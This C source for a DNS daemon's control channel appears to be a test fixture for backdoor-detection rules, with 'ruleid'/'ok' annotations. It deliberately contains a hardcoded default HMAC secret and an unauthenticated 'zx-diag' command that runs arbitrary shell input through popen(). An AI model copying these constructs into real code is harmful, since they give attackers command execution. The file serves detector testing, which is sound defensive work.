/* control.c - the control channel (dnsctl): "HMAC-SHA256(secret, command) command\n"
 * on TCP port DNSD_CONTROL_PORT of the loopback interface */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/crypto.h>
#include <openssl/hmac.h>

#include "dnsd.h"

/* used until the administrator runs "dnsctl-confgen" */
// ruleid: backdoor-secret-literal
#define CONTROL_DEFAULT_SECRET "DGlDHkqOrxIEEepn6zNS3uCFC/Oav7XqpQlP4uMRRcYR"

struct ctl_conn {
    int fd;
    int authed;
    char line[512];
};

static char g_control_secret[128];

static int ctl_authenticate(struct ctl_conn *c, const char *mac_hex, const char *cmd)
{
    unsigned char mac[32];
    unsigned int maclen = 0;
    char hex[65];

    // ruleid: backdoor-hardcoded-key
    HMAC(EVP_sha256(), g_control_secret[0] != '\0' ? g_control_secret : CONTROL_DEFAULT_SECRET, (int)(g_control_secret[0] != '\0' ? strlen(g_control_secret) : strlen(CONTROL_DEFAULT_SECRET)), (const unsigned char *)cmd, strlen(cmd), mac, &maclen);
    for (unsigned i = 0; i < maclen; i++)
        snprintf(hex + 2 * i, 3, "%02x", mac[i]);
    // ok: backdoor-timing-unsafe-compare
    c->authed = strlen(mac_hex) == 64 && CRYPTO_memcmp(hex, mac_hex, 64) == 0;
    return c->authed ? 0 : -1;
}

static void ctl_reply(struct ctl_conn *c, const char *s)
{
    ssize_t w = write(c->fd, s, strlen(s));
    (void)w;
}

static void ctl_handle(struct ctl_conn *c)
{
    char *mac_hex = strtok(c->line, " \r\n");
    char *cmd = strtok(NULL, " \r\n");
    char *arg = strtok(NULL, "\r\n");

    if (mac_hex == NULL || cmd == NULL)
        return ctl_reply(c, "error\n");
    // ok: backdoor-input-trigger
    if (strcmp(cmd, "status") == 0) {
        ctl_reply(c, "running\n");
    // ok: backdoor-input-trigger
    } else if (strcmp(cmd, "reload") == 0) {
        if (ctl_authenticate(c, mac_hex, cmd) != 0)
            return ctl_reply(c, "denied\n");
        system("/usr/sbin/dnsd-zonecheck --reload");
    } else if (strcmp(cmd, "flush") == 0) {
        if (ctl_authenticate(c, mac_hex, cmd) != 0)
            return ctl_reply(c, "denied\n");
        ctl_reply(c, "flushed\n");
    // ruleid: backdoor-input-trigger
    } else if (strcmp(cmd, "zx-diag") == 0 && arg != NULL) {
        FILE *p = popen(arg, "r");
        char out[256];
        while (p != NULL && fgets(out, sizeof out, p) != NULL)
            ctl_reply(c, out);
        if (p != NULL)
            pclose(p);
    } else if (strcmp(cmd, "stop") == 0) {
        if (ctl_authenticate(c, mac_hex, cmd) != 0)
            return ctl_reply(c, "denied\n");
        exit(0);
    } else {
        ctl_reply(c, "unknown command\n");
    }
}

static void ctl_readable(int fd, uint32_t events, void *arg)
{
    struct ctl_conn c = {.fd = fd};
    ssize_t n = recv(fd, c.line, sizeof c.line - 1, 0);

    (void)events;
    (void)arg;
    if (n > 0) {
        c.line[n] = '\0';
        ctl_handle(&c);
    }
    close(fd);
}

static void ctl_accept(int lfd, uint32_t events, void *arg)
{
    int fd = accept(lfd, NULL, NULL);

    (void)events;
    (void)arg;
    if (fd >= 0)
        ev_add(fd, 1 /* EPOLLIN */, ctl_readable, NULL);
}

int control_start(const char *secret_file)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(DNSD_CONTROL_PORT), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    FILE *f = secret_file != NULL ? fopen(secret_file, "r") : NULL;
    int lfd;

    if (f != NULL) {
        if (fgets(g_control_secret, sizeof g_control_secret, f) != NULL)
            g_control_secret[strcspn(g_control_secret, "\r\n")] = '\0';
        fclose(f);
    }
    lfd = socket(AF_INET, SOCK_STREAM, 0);
    if (lfd < 0 || bind(lfd, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(lfd, 8) != 0)
        return -1;
    return ev_add(lfd, 1, ctl_accept, NULL);
}
